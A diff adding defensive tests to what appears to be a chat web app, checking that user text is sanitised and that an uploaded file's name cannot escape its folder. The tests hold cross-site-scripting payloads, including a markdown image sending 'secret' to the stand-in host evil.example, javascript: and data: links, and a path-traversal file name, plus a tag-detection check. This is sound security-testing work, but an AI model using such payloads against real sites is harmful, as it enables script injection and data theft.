@@ -337,3 +337,48 @@ def test_a_talk_of_the_terminal_goes_on_and_opens_on_the_page(folder, monkeypatc
         answers = [turn for turn in turns if turn["role"] == "assistant" and turn["has_tokens"]]
         lens = sent(served, "GET", f"turns/{answers[0]['id']}/tokens")
         assert len(lens["tokens"][0]["likeliest"]) == 20
+
+
+HOSTILE = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "![x](http://evil.example/?q=secret)",
+    "[click](javascript:alert(1))",
+    "```<script>\n</script><svg onload=alert(1)>\n```",
+    "[1]: http://evil.example 'x'\n\n[a][1] <a href='data:text/html,x'>y</a>",
+)
+
+
+def test_what_others_wrote_reaches_the_page_as_text_or_as_html_without_teeth(served):
+    """Titles, questions, corrected answers, thoughts and imports: only `html` is inserted as HTML, and it is harmless."""
+    talk = begun(served, title=HOSTILE[1])
+    question, done = said(served, talk, HOSTILE[0])
+    for text in HOSTILE:
+        edited = sent(served, "PATCH", f"turns/{done['id']}", {"text": text})["answer"]
+        assert edited["text"] == text
+        harmless(edited["html"])
+    data = sent(served, "GET", f"conversations/{talk['id']}/export")
+    copy = sent(served, "POST", "conversations/import", data)
+    assert copy["title"] == HOSTILE[1]
+    for turn in sent(served, "GET", f"conversations/{copy['id']}")["turns"]:
+        harmless(turn["html"])
+    assert question["html"] == ""
+
+
+def harmless(html: str) -> None:
+    """Nothing in it runs, and nothing is fetched but by a click."""
+    low = html.lower()
+    assert not any(tag in low for tag in ("<script", "<svg", "<iframe", "<style", "<form", "<base", "<meta", "<object"))
+    assert "<img" not in low or 'src="data:image/' in low
+    for tag in low.split("<")[1:]:
+        inside = tag.partition(">")[0]
+        assert " on" not in inside.replace(" only", "") or "=" not in inside.partition(" on")[2], inside
+        assert "javascript:" not in inside and "data:text" not in inside, inside
+
+
+def test_a_file_by_a_hostile_name_stays_in_its_folder_and_is_plain_text(served, folder):
+    name = "..%2F..%2F%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E.txt"
+    response = served.page.post(f"/api/library/documents?name={name}", content=b"Black tea wants boiling water.")
+    assert '"done"' in response.text.splitlines()[-1]
+    (found,) = [one for one in sent(served, "GET", "library")["documents"] if "onerror" in one["title"]]
+    assert "<" not in found["title"] and Path(found["path"]).parent == (folder / "notes-files").resolve()
